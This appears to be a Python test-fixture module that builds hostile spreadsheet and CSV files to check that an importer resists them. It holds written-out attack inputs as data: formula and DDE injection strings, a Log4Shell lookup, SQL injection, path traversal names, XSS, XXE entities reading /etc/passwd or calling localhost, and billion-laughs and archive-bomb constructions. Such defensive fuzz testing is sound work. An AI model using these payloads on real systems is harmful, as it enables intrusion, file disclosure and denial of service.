"""Hostile files, made here: each with a name and its bytes. None may run anything or break us.

Four families: workbooks whose archive lies, workbooks whose XML attacks, texts that are something
else or attack a spreadsheet, and good files damaged at random (repeatably).
"""

import io
import random
import struct
import zipfile
from collections.abc import Iterator

import openpyxl

Hostile = tuple[str, bytes]

PAYLOADS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test","a")', "+1+1", "-2+3", "@SUM(1)"),
    *('=DDE("cmd";"/C calc";"x")', '=IMPORTXML(CONCAT("http://x.test"),"//a")', "\t=1+1"),
    *("<script>alert(1)</script>", "{{ 7*7 }}", "{% load static %}", "${jndi:ldap://x.test/a}"),
    *(
        "'; DROP TABLE people_person; --",
        "../../etc/passwd",
        "%00",
        "\u202egnp.exe",
        "__import__('os')",
    ),
    *("&xxe;", "]]>", "A" * 300, "\ufeffAnna", "Anna\u200b", "١٢٣", "🙂", "\x1b[31m", "a\rb"),
)


MACRO_TYPES = """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Override PartName="/xl/workbook.xml"
 ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>"""


def workbook(rows=(("Nome", "Cognome"), ("Anna", "Rossi"))) -> bytes:
    """Return a plain workbook."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Foglio")
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def changed(data: bytes, **parts: bytes | None) -> bytes:
    """Return a workbook with parts replaced, added, or left out where None; "/" is "__"."""
    wanted = {name.replace("__", "/"): content for name, content in parts.items()}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            if info.filename not in wanted:
                new.writestr(info.filename, old.read(info))
        for name, content in wanted.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def renamed(data: bytes, old: str, new: str) -> bytes:
    """Return the archive with a part's name overwritten by one of the same length."""
    assert len(old) == len(new)
    return data.replace(old.encode(), new.encode())


SHEET = "xl/worksheets/sheet1.xml"
HEAD = b'<?xml version="1.0"?>'
NAMESPACE = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def sheet_of(body: bytes, doctype: bytes = b"") -> bytes:
    start = HEAD + doctype + b"<worksheet " + NAMESPACE + b"><sheetData>"
    return start + body + b"</sheetData></worksheet>"


def cell(text: bytes) -> bytes:
    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + text + b"</t></is></c></row>"


def archives() -> Iterator[Hostile]:
    """Yield workbooks whose archive lies."""
    good = workbook()
    for name in (
        *("xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/embeddings/oleObject1.bin"),
        *("xl/activeX/activeX1.xml", "xl/ctrlProps/ctrlProp1.xml", "run.exe", "a.js", "a.vbs"),
        *("customUI/customUI.xml", "xl/webextensions/webextension1.xml", "a.lnk", "a.bat", "a.dll"),
        *(
            "inner.zip",
            "inner.xlsx",
            "a.jar",
            "a.py",
            "xl/dialogsheets/sheet1.xml",
            "a.sh",
            "a.php",
        ),
        *("../evil.xml", "/etc/passwd.xml", "..\\evil.xml", "C:/evil.xml", "a/../../b.xml"),
        *("a/./../../../tmp/x.xml", "inner.tar", "inner.gz", "inner.rar", "inner.7z", "a.html"),
    ):
        yield f"part {name}", changed(good, **{name.replace("/", "__"): b"<a/>"})
    for missing in ("[Content_Types].xml", "xl/workbook.xml", SHEET, "xl/styles.xml"):
        yield f"without {missing}", changed(good, **{missing: None})
    yield "prefix", b"GIF89a" + good
    yield "prefix html", b"<html></html>" + good
    yield "suffix", good + b"#!/bin/sh\nid\n"
    yield "two archives", good + good
    yield "comment", good[:-2] + struct.pack("<H", 6) + b"hidden"
    yield "only end", b"PK\x05\x06" + bytes(18)
    yield "only start", b"PK\x03\x04" + bytes(40)
    yield "cut", good[: len(good) // 2]
    yield "zero tail", good + bytes(2000)
    bomb = sheet_of(cell(b"A" * (60 * 1024**2)))
    yield "one huge part", changed(good, **{SHEET.replace("/", "__"): bomb})
    many = {f"xl__media__image{n}.png": b"x" for n in range(400)}
    yield "many parts", changed(good, **many)
    large = {f"xl__media__image{n}.xml": b" " * (3 * 1024**2) for n in range(60)}
    yield "large in sum", changed(good, **large)
    locked = bytearray(good)
    for at in range(len(locked) - 4):
        if locked[at : at + 4] == b"PK\x01\x02":
            locked[at + 8] |= 1
    yield "marked as locked", bytes(locked)
    lying = bytearray(good)
    at = lying.find(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<L", 10)
    yield "lies about its size", bytes(lying)
    types = MACRO_TYPES.encode()
    yield "macro type", changed(good, **{"[Content_Types].xml": types})
    twice = io.BytesIO(good)
    with zipfile.ZipFile(twice, "a") as archive:
        archive.writestr(SHEET.upper(), b"<a/>")
    yield "two of one name", twice.getvalue()


def markup() -> Iterator[Hostile]:
    """Yield workbooks whose XML attacks."""
    good, part = workbook(), SHEET.replace("/", "__")
    laughs = b"<!DOCTYPE a [<!ENTITY a0 'ha'>" + b"".join(
        b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
    )
    doctypes = {
        "laughs": laughs + b"]>",
        "quadratic": b"<!DOCTYPE a [<!ENTITY a '" + b"A" * 100_000 + b"'>]>",
        "file": b"<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
        "network": b"<!DOCTYPE a [<!ENTITY a SYSTEM 'http://127.0.0.1:9/x'>]>",
        "outside": b"<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/x.dtd'>",
        "parameter": b"<!DOCTYPE a [<!ENTITY % p SYSTEM 'file:///etc/passwd'> %p;]>",
        "public": b"<!DOCTYPE a PUBLIC 'x' 'http://127.0.0.1:9/x'>",
        "gopher": b"<!DOCTYPE a [<!ENTITY a SYSTEM 'gopher://127.0.0.1:9/x'>]>",
        "php": b"<!DOCTYPE a [<!ENTITY a SYSTEM 'php://filter/read=x'>]>",
        "expect": b"<!DOCTYPE a [<!ENTITY a SYSTEM 'expect://id'>]>",
    }
    for name, doctype in doctypes.items():
        for where in (SHEET, "xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml"):
            body = sheet_of(cell(b"&a;" if b"ENTITY a" in doctype else b"x"), doctype)
            yield f"{name} in {where}", changed(good, **{where.replace("/", "__"): body})
        utf16 = (
            (HEAD + doctype + b"<worksheet/>").decode().replace('"1.0"', '"1.0" encoding="utf-16"')
        )
        yield f"{name} in utf-16", changed(good, **{part: utf16.encode("utf-16")})
        yield f"{name} in utf-16-le", changed(good, **{part: utf16.encode("utf-16-le")})
    deep = b"<a>" * 200_000
    bodies = {
        "deep": HEAD + deep,
        "unclosed": sheet_of(cell(b"x"))[:-10],
        "not xml": b"hello",
        "empty": b"",
        "zero bytes": bytes(1000),
        "utf-7": b'<?xml version="1.0" encoding="utf-7"?>+ADw-a+AD4-',
        "ebcdic": b'<?xml version="1.0" encoding="cp037"?><a/>',
        "last row": sheet_of(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
        "row beyond": sheet_of(b'<row r="99999999999"><c r="A1"><v>1</v></c></row>'),
        "negative row": sheet_of(b'<row r="-5"><c r="A1"><v>1</v></c></row>'),
        "last column": sheet_of(b'<row r="1"><c r="XFD1"><v>1</v></c></row>'),
        "column beyond": sheet_of(b'<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>'),
        "no such string": sheet_of(b'<row r="1"><c r="A1" t="s"><v>999999</v></c></row>'),
        "bad type": sheet_of(b'<row r="1"><c r="A1" t="zz"><v>1</v></c></row>'),
        "bad date": sheet_of(b'<row r="1"><c r="A1" t="d"><v>9999-99-99</v></c></row>'),
        "infinite": sheet_of(b'<row r="1"><c r="A1"><v>1e999</v></c></row>'),
        "not a number": sheet_of(b'<row r="1"><c r="A1"><v>nan</v></c></row>'),
        "huge number": sheet_of(b'<row r="1"><c r="A1"><v>' + b"9" * 5000 + b"</v></c></row>"),
        "error": sheet_of(b'<row r="1"><c r="A1" t="e"><v>#REF!</v></c></row>'),
        "array formula": sheet_of(
            b'<row r="1"><c r="A1"><f t="array" ref="A1:A9">SUM(1)</f><v>1</v></c></row>'
        ),
        "data table": sheet_of(
            b'<row r="1"><c r="A1"><f t="dataTable" ref="A1:A9" r1="B1"/><v>1</v></c></row>'
        ),
        "shared formula": sheet_of(
            b'<row r="1"><c r="A1"><f t="shared" si="7"/><v>1</v></c></row>'
        ),
        "stylesheet": HEAD + b'<?xml-stylesheet href="http://127.0.0.1:9/x"?><a/>',
        "include": sheet_of(b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/x"/>'),
        "wide": sheet_of(b"<row>" + b"<c><v>1</v></c>" * 5000 + b"</row>"),
        "many rows": sheet_of(b"<row><c><v>1</v></c></row>" * 60_000),
        "long cell": sheet_of(cell(b"A" * 1_000_000)),
        "claims little": HEAD
        + b"<worksheet "
        + NAMESPACE
        + b'><dimension ref="A1:XFD1048576"/><sheetData>'
        + cell(b"x")
        + b"</sheetData></worksheet>",
    }
    for name, body in bodies.items():
        yield f"sheet {name}", changed(good, **{part: body})
    for payload in PAYLOADS:
        rows = (("Nome", "Cognome"), (payload.replace("\x1b", ""), "Rossi"))
        yield f"cell {payload[:20]!r}", workbook(rows)


def texts() -> Iterator[Hostile]:
    """Yield files that call themselves CSV."""
    for name, start in {
        "pdf": b"%PDF-1.7\n",
        "png": b"\x89PNG\r\n\x1a\n",
        "gif": b"GIF89a",
        "jpeg": b"\xff\xd8\xff\xe0",
        "program": b"\x7fELF",
        "windows program": b"MZ\x90\x00",
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "gzip": b"\x1f\x8b\x08",
        "rar": b"Rar!\x1a\x07",
        "seven": b"7z\xbc\xaf\x27\x1c",
        "script": b"#!/bin/sh\n",
        "html": b"<html><table><tr><td>a",
        "xml": b"<?xml version='1.0'?><a/>",
        "xml with entity": b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        "rtf": b"{\\rtf1 a}",
        "svg": b"<svg onload=alert(1)>",
        "sqlite": b"SQLite format 3\x00",
    }.items():
        yield f"text {name}", start + b"Nome;Cognome\nAnna;Rossi\n"
    good = b"Nome;Cognome\nAnna;Rossi\n"
    yield "zip in text", good + workbook()
    yield "zero byte", b"Nome;Cognome\nAn\x00na;Rossi\n"
    yield "all zero", bytes(5000)
    yield "only marks", b"\xef\xbb\xbf"
    yield "half utf-16", b"\xff\xfeN\x00o"
    yield "odd utf-16", b"\xff\xfeN\x00o\x00m"
    yield "utf-32", "Nome;Cognome\nAnna;Rossi".encode("utf-32")
    yield "lone surrogates", b"\xff\xfe\x00\xd8\x00\xd8"
    yield "open quote", b'Nome;Cognome\n"Anna;Rossi\nAda;Bianchi\n'
    yield "quotes alone", b'"' * 9999
    yield "one long line", b"a" * 3_000_000
    yield "many separators", b";" * 500_000
    yield "many lines", b"a;b\n" * 60_000
    yield "empty lines", b"\n" * 100_000
    yield "carriage returns", b"a;b\r" * 1000
    yield "control signs", bytes(range(1, 32)) * 50
    yield "random bytes", random.Random(1).randbytes(50_000)
    yield "told separator", b"sep=\x00\nNome;Cognome\nAnna;Rossi\n"
    yield "too large", b"a;b\n" * 3_000_000
    for payload in PAYLOADS:
        for separator in (";", ","):
            quoted = payload.replace('"', '""')
            text = f'Nome{separator}Cognome\n"{quoted}"{separator}Rossi\n'
            yield f"payload {payload[:20]!r} {separator}", text.encode()
    for encoding in ("utf-16", "cp1252", "utf-8-sig"):
        text = "Nome;Cognome\n=cmd|' /C calc'!A0;Rossì\n"
        yield f"formula in {encoding}", text.encode(encoding)


def damaged(count: int) -> Iterator[Hostile]:
    """Yield good files with bytes changed, cut out or put in, the same ones every time."""
    chance = random.Random(20261122)
    text = b'Nome;Cognome;Nato il\nAnna;Rossi;25/03/1990\n"Ada";Bianchi;1970\n' * 5
    for number in range(count):
        data = bytearray(workbook() if number % 2 else text)
        for _ in range(chance.randint(1, 12)):
            at = chance.randrange(len(data))
            kind = chance.randrange(3)
            if kind == 0:
                data[at] = chance.randrange(256)
            elif kind == 1:
                del data[at : at + chance.randint(1, 40)]
            else:
                data[at:at] = chance.randbytes(chance.randint(1, 40))
            data = data or bytearray(b"x")
        yield f"damaged {number}", bytes(data)


def all_files() -> list[Hostile]:
    """Return every hostile file."""
    return [*archives(), *markup(), *texts(), *damaged(40)]
